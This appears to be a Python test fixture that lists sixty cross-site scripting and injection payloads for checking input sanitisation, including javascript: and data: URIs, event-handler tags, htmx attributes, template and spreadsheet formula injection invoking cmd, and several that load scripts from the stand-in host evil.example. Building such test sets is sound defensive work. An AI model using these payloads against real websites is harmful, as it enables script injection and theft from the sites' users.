"""Sixty things that somebody may write where a word is expected, in the hope that a browser runs them.

Each calls `ran()` if it is run, or asks evil.example for something if it is loaded.
"""

from __future__ import annotations

FIRST = [  # these must stand at the beginning of a value
    "javascript:ran(1)",
    "JaVaScRiPt:ran(2)//https://x.example",
    "\tjava\tscript:ran(3)",
    "data:text/html,<script>parent.ran(4)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDUpPC9zY3JpcHQ+",
    "vbscript:ran(6)",
    "//evil.example/7.js",
    "=cmd|'/c ran(8)'!A1",
    "@SUM(1+1)*cmd|' /C ran(9)'!A0",
    "<https://evil.example/10>",
    "BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:<script>ran(11)</script>",
    "Content-Type: text/html\r\n\r\n<script>ran(12)</script>",
]
ANYWHERE = [
    "<script>ran(13)</script>",
    "<ScRiPt src=//evil.example/14.js></ScRiPt>",
    "<script src=https://evil.example/15.js>",
    "<img src=x onerror=ran(16)>",
    "<img src=https://evil.example/17.png>",
    "<svg onload=ran(18)>",
    "<svg><script>ran(19)</script></svg>",
    "<svg><a xlink:href='javascript:ran(20)'><text y=20>a</text></a></svg>",
    "<svg><animate onbegin=ran(21) attributeName=x dur=1s>",
    "<math><mtext></table><mglyph><style><img src=x onerror=ran(22)></style></mglyph></mtext></math>",
    "<iframe srcdoc='<script>parent.ran(23)</script>'></iframe>",
    "<iframe src='javascript:parent.ran(24)'></iframe>",
    "<object data='javascript:ran(25)'></object>",
    "<embed src='https://evil.example/26.swf'>",
    "<body onload=ran(27)>",
    "<details open ontoggle=ran(28)>",
    "<video><source onerror=ran(29)></video>",
    "<audio src=x onerror=ran(30)>",
    "<input autofocus onfocus=ran(31)>",
    "<select autofocus onfocus=ran(32)>",
    "<form action='javascript:ran(33)'><button>a</button></form>",
    "<button formaction='javascript:ran(34)' form=main>a</button>",
    "<a href='javascript:ran(35)'>a</a>",
    "<a href='&#106;avascript:ran(36)'>a</a>",
    "<base href='https://evil.example/37/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/38'>",
    "<link rel=stylesheet href='https://evil.example/39.css'>",
    "<style>@import 'https://evil.example/40.css';body{display:none}</style>",
    "<div style='background:url(https://evil.example/41)'>",
    "<div hx-get='/static/x' hx-trigger='load' hx-on::after-request='ran(42)'>",
    "<div data-hx-on:load='ran(43)' data-hx-get='/' data-hx-trigger='load'>",
    "<img src=x data-hx-on:error='ran(44)' hx-on:error='ran(44)'>",
    "<hx-partial hx-target='body'><script>ran(45)</script></hx-partial>",
    "<template><script>ran(46)</script></template><p hx-vals='js:{a: ran(46)}' hx-get='/' hx-trigger=load>",
    '" onmouseover=ran(47) autofocus onfocus=ran(47) x="',
    "' onmouseover=ran(48) autofocus onfocus=ran(48) x='",
    '"><script>ran(49)</script>',
    "'><img src=x onerror=ran(50)>",
    "</title></textarea></style></noscript></script><script>ran(51)</script>",
    "</option></select><script>ran(52)</script>",
    "--><script>ran(53)</script><!--",
    "]]><script>ran(54)</script>",
    "{{constructor.constructor('ran(55)')()}} ${ran(55)} {% raw %}<script>ran(55)</script>",
    "\\u003cscript\\u003eran(56)\\u003c/script\\u003e \uff1cscript\uff1eran(56)\uff1c/script\uff1e \u2028ran(56)//",
    "%3Cscript%3Eran(57)%3C/script%3E &lt;script&gt;ran(57)&lt;/script&gt; &amp;lt;img src=x onerror=ran(57)&gt;",
    "[a](javascript:ran(58)) [b](https://evil.example/58) ![c](https://evil.example/58.png) <javascript:ran(58)>",
    '[a](data:text/html,<script>ran(59)</script> "x\\" onfocus=ran(59)") `<img src=x onerror=ran(59)>`',
    "\u202e<scr\0ipt>ran(60)</scr\0ipt>\u00ad<\u200bimg src=x onerror=ran(60)>",
]
PAYLOADS = FIRST + ANYWHERE


def rounds(number: int) -> list[list[str]]:
    """Return all of them in so many parts of about one length, each with one of FIRST at its beginning where they last:
    a field holds a part, put together."""
    parts = [FIRST[place::number] for place in range(number)]
    for payload in sorted(ANYWHERE, key=len, reverse=True):
        min(parts, key=lambda part: sum(map(len, part)) + len(part)).append(payload)
    return parts
